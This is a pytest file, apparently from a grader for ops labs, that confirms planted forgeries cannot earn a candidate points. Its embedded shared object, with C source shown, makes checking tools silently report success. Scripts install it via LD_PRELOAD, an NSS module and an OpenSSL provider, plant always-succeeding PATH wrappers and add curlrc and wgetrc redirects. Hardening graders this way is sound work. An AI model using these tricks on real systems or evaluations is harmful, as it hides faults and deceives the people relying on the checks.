"""The forgery suite: generic forgeries a candidate could leave behind, applied after setup to
every lab in labs/, must gain no points over the untouched setup — nor make a single check
pass that failed after setup.

Each forgery would make a check pass if the grader trusted what the candidate controls:
- a shared object whose constructor makes the tools checks judge with (setpriv, runuser,
  nginx, find, psql, curl, …) exit 0 with no output ("nothing wrong found") while the rest of
  the host runs normally, dropped in /usr/lib as an NSS module named by /etc/nsswitch.conf,
  and named by LD_PRELOAD in /etc/environment (PAM sessions: runuser, su) and root's
  profile and bashrc (login shells);
- wrappers earlier in PATH (/usr/local/bin, /usr/local/sbin) for the tools checks call, each
  answering "all good" (exit 0, no output);
- ~/.curlrc and ~/.wgetrc sending requests elsewhere;
- the same shared object as an OpenSSL provider in /etc/ssl/openssl.cnf (loaded by every
  program linked with OpenSSL as it starts: curl, nginx, psql).
One sandbox per lab carries them all, in two steps graded one after the other (see STEPS):
one setup, three grades — 4-16 s a lab, four labs at once.
With the grader's trust rules of before issue #12, the NSS step makes nginx-broken-site's
"www-data can read the whole site" pass: the suite has teeth.
"""

from __future__ import annotations

from concurrent.futures import Future, ThreadPoolExecutor
from pathlib import Path

import pytest

from grader.catalogue import lab_ids, labs_root
from grader.loader import load_lab
from grader.runner import grade
from opslab.engine import lab_sandbox, run_script

# gcc -O2 -s -shared -fPIC, on a Debian bookworm host (glibc 2.36, as the images), of:
# /* Loaded by a program (an NSS module, or LD_PRELOAD), it answers "all good" for the tools
#    checks judge with: exit 0 with no output ("nothing wrong found"). Other programs (ps, the
#    shells, the services) run normally, so the host still looks alive. */
# #include <fcntl.h>
# #include <string.h>
# #include <unistd.h>
# static const char *liars[] = {"setpriv", "runuser", "su", "nginx", "find", "stat", "test", "logrotate",
#                               "psql", "pg_isready", "promtool", "terraform", "ansible-playbook", "curl",
#                               "wget", "nc", "nc.openbsd", "ss", 0};
# __attribute__((constructor)) static void forge(void) {
#     char buf[4096];
#     int fd = open("/proc/self/cmdline", O_RDONLY);
#     if (fd < 0) return;
#     ssize_t n = read(fd, buf, sizeof buf - 1);
#     close(fd);
#     if (n <= 0) return;
#     buf[n] = 0;
#     const char *name = strrchr(buf, '/') ? strrchr(buf, '/') + 1 : buf;
#     for (int i = 0; liars[i]; i++)
#         if (!strcmp(name, liars[i])) _exit(0);
# }
FORGE_SO_GZ_B64 = """
H4sICDEcDmsCA2ZvcmdlX2FsbC5zbwDtW11s29YVPpTtRG4yyRva1I2zRtjSLV1r2kqWwGvnJXaa
hCmSIuvsoVubMJREWcQkUiWpxA7WzoHrIIJrQAM6oAP2ELQYMOxlwYABXgoMypxlQbGH9G3Yy/yw
AHJ/UhdFM68ozN0rnROTd+LSAXvYD7+E+u757j33j+QlaR7+4ODRQzFJAkIHfAPWLYD9yMfTfm0I
utlvH2xtlu2EcBzfGGToaRH36/LZInfFguz3a7aXQl1gRQqy328D1/sxfzjIK9jOqtBeDP1W0W91
OMh1KchxdO/EbQjrE3kHBJnm8PhNN8fTr+B4RA7z+ybz2wCfHjTdT2N7YfOyEAuy5Gv33ubxAnD4
qXH4UdVLnVC2WNt2vJfdnfzpG2++9NcHqLzk8/tX+pdqo7ts+1wbXQ/R1RD9uyF6KUSXQvozHlL+
0ZDyh9j2hXYDVtWJkmWqjqvZrqqCemTsmJrTbX3CcFzdHjt2oGiZ+piWKeqtvPY5anZSU/OGqRWN
szpYZd0EW9dykC1ajg6Oa9vZgs05WyqDqk8aLhSNTFZ2LHkvHD56ZPSAukveJe9pjjh255+EG1cl
OOs7fipbjW5+lrwEweOGzoOVz+JxLegXsYJnBP0Slj8l6DSZBUHvQ70s6F9EfVLQv4T6tKA/ivoF
QU+jXhP0vai/KuiPo35R0A+i/jNBfxL1S4I+jvqCoJ9EvS7oBdSvC/oU6jcE/UXU/yjoM6gvCfp5
1BuC/kPUB/cHdbIX9rV4g7AG1H36Rp9+3ad3+/QbPv0e+McL1EZcqwlxn97hX1d8uv+61evTu3x6
yqf719edPj0OESJEiBAhQoQI/z1QZt6NK3Ndvxpgydm6G/NuKDNX44t38r09b7Is76E/sN/k9v0s
xe0Cz1pe8hge+i23+a3d8o2mfZnb/FZsud60f8ltfgu2fKlp/5zb/NZr+WLTfo3b/JZruda0H2N2
vkbtj4ylb6fryvzws0l2U/wt5dy7/NGj8TtWcrY++bxSvVn9/WWP5VUXleqtxjzTq38+Ur3acFjq
2OxfXnzqNwN8mNX3R6917oDGUSbzgXYq8wVJmf98jj2oKfN7PkoAvJNMbgdlbrcysxhXZm+79zKn
ZvnZeqWR9hoSS9aUc1d5B549MfLcIp8P1rMPZF5F19ucvrbq3sem86Tcms5ubym5fZqPYxGZlb/S
LL/nMqeH15TqinLl1j7lymqHIl1T3lpj7c519WMFcW8pn9z+xLr/h8kHP54efkHmj16PjCszw/fI
zeHddDcrc8O83cav1zyvkWOdvdY1zmzpBPMN+C+fYZm07wN7O0KECBEiRIgQIUKECBEi/K/C0d2y
bZyGgbJtZQccvZgfyJZyRcPUwa6YFUe3wamAOWGYk5A3zBw4ruaCqzsuFK0J22KWDmXn+SKUJ1TD
4S8bp4DVVXItq8jK2baWt+wSaKZjZIp6f7moTWUs63uQrdhFODOhu2Bm2X+Zv6vMOKx+B6S+juZr
NP5Hg5ff97yvM/6EcY7x5hXP+z603j1zSGefBmmyR+rbvDFek1rvxbfxZ1tWvswLJHoOJXqfTG46
E5+GfVsf/8ruHc3Xr9yfPVZDjZXzv78ZZNtzbLvA9J9wYTTR83LsaKL3fMdIIjXTeThxMRU7l0iN
JHpHEj2jiejdT4QIESJEiBAhQoQI/3+gOEeKa6Q4RopbpDhFikukOESKO6Q4Q4orpDhCihukOEGK
C6Q4QIr7ozg/iuujOD6K26M4PQLF4p1F3kwZ2P/PoPkJjuMBtCm+sy9YHLYiUzznNrTp+eijNc/i
fIriulG/gMF5FFs3jfkU40cvgjch9yJTTF8D4wJjQnl6PqTYwvuR6xuC+vHOYD/LWFG30N6a1+r/
IJb30KZ5XEG7F/P/hvaW/5Djk+LVRezFHXgI+dvIeeTTyOeRKa7z8IEDj6V2PqFnDM1MpXnM8GB/
+quP5PRMelcl/TBKALJTcFzb1TIgm5aryxNmRc5UjGKu38hB0ypoTgHk3JTpTJVa7NqtnNO67RiW
GTBUlmfrRY0XxFS56IJsmAb7ZUl5wmIJV59kv3mmskJWTnM1kPWCmre1kq4Wcva61XJVNdvWploe
lOZevAVWQbNfWsnIAq++1WKr0ozjgJy1SiXddP8d+2kTBGNZw74bIIjfXjzIttvs2CN/Ot+Itwnn
j/j3i53Yh5hwPhLHpfV2JZ9/r+/vJx0+fzq/iWvQfh0iDOG5Rf50PhFvEfofE/ggnqtk0/lKnIL2
/SeMYV5MWB+IaX0Q54/GfxL9R4X1hrjm6/+WNv4FWP9WJbDA9gTXsbD9nxX8Uz1BLgvlxc9vTMG/
1hNkcb7iAp8R/Ol6SPwdqX37hBcEf7r+EHffZfwz6L8Lgtdf4ldCjj/iOUzT/g/7/ias/R8L/gup
INdC5o/wOtsSvuPrzvc4/e3nS5z/X7At6fOn6/Ez/Z9u/72B/Sd/+g7jFPq/KvgLtxVwHfddh3Dd
oe+n6lJw3uLCcWAL7dP3AwsD7dsT+/+W4E/3Bw30V+7i/yfBn653g4P/fP4IS6iR/xD6D4X4i+vf
TdQGxXURhS/f5fj1990PFf1v3aX9vwM7XEeTEDgAAA==
"""

TOOLS = ("curl wget find ss stat cat readlink setpriv runuser ps id nginx promtool terraform psql "
         "ansible-playbook logrotate tail grep awk nc nc.openbsd").split()

# Two steps on one sandbox, each graded: the first leaves the host one the grader still
# grades (so each of its forgeries is judged by the checks themselves), the second changes what
# makes the grader refuse the whole host. Applied in this order, neither hides the other.
USER_LEVEL = """#!/usr/bin/env bash
set -euo pipefail
base64 -d <<'B64' | gunzip > /root/forge.so
{so}
B64
for d in /usr/local/bin /usr/local/sbin; do
  mkdir -p $d
  for t in {tools}; do printf '#!/bin/sh\\nexit 0\\n' > $d/$t; chmod 0755 $d/$t; done
done
printf 'connect-to = "::127.0.0.1:1"\\nwrite-out = "200"\\n' > /root/.curlrc
printf 'header = Host: forged.example\\n' > /root/.wgetrc
for f in /root/.profile /root/.bashrc; do echo 'export LD_PRELOAD=/root/forge.so' >> $f; done
if [ -f /etc/ssl/openssl.cnf ]; then  # an OpenSSL "provider": loaded by every program linked with it
  sed -i 's/^# providers = provider_sect/providers = provider_sect/' /etc/ssl/openssl.cnf
  printf '[provider_sect]\\nforge = forge_sect\\n[forge_sect]\\nmodule = /root/forge.so\\nactivate = 1\\n' >> /etc/ssl/openssl.cnf
fi
"""
SYSTEM_LEVEL = """#!/usr/bin/env bash
set -euo pipefail
cp /root/forge.so /usr/lib/libnss_forge.so.2
echo 'LD_PRELOAD=/root/forge.so' >> /etc/environment
# last, with shell builtins only: from here on, every user lookup loads the module
printf 'passwd: forge files\\ngroup: forge files\\nshadow: files\\nhosts: files dns\\n' > /etc/nsswitch.conf
"""
STEPS = {"curlrc, wgetrc, PATH wrappers, LD_PRELOAD in root's profile, an OpenSSL provider": USER_LEVEL,
         "an NSS module in /usr/lib, LD_PRELOAD in /etc/environment": SYSTEM_LEVEL}


FORGERY_JOBS = 4  # labs forged at once: most of a lab's time waits on its sandbox, not the CPU


def forge_and_grade(lab_id: str, scripts: Path) -> list[str]:
    """Setup, then each step of STEPS on one sandbox, graded before and after every step:
    what went wrong, in words (nothing: the forgeries gained no points)."""
    lab = load_lab(labs_root() / lab_id)
    with lab_sandbox(lab) as sandbox:
        before = grade(lab, sandbox.target())
        if before.lab_error is not None:
            return [f"{lab_id} after setup: {before.lab_error}"]
        was = {t.id: t.passed for t in before.tasks}
        for i, (step, text) in enumerate(STEPS.items()):
            script = scripts / f"{lab_id}-forgery-{i}.sh"
            script.write_text(text.format(so=FORGE_SO_GZ_B64.strip(), tools=" ".join(TOOLS)))
            run_script(sandbox, lab, script, f"forgery {i}")
            after = grade(lab, sandbox.target())
            if after.lab_error is not None:
                return [f"{lab_id} after {step}: {after.lab_error}"]
            gained = [t.id for t in after.tasks if t.passed and not was[t.id]]
            # Points are what a report shows. A single check may flip inside a task that still
            # fails: wrappers that break grep or cat make ci-pipeline-deploy-gate's own pipeline
            # fail, so "a failing commit fails the pipeline" holds while nothing deploys.
            if gained:
                return [f"{lab_id}: {step} gained {', '.join(gained)}"]
    return []


@pytest.fixture(scope="module")
def forged(provider, tmp_path_factory) -> dict[str, Future]:
    """Every lab forged and graded, FORGERY_JOBS at a time, each test waiting for its own."""
    scripts = tmp_path_factory.mktemp("forgeries")
    with ThreadPoolExecutor(max_workers=FORGERY_JOBS) as pool:
        futures = {lab_id: pool.submit(forge_and_grade, lab_id, scripts) for lab_id in lab_ids()}
        yield futures
        for f in futures.values():
            f.cancel()


@pytest.mark.parametrize("lab_id", lab_ids())
def test_generic_forgeries_gain_no_points(lab_id, forged):
    problems = forged[lab_id].result()
    assert not problems, problems[0]
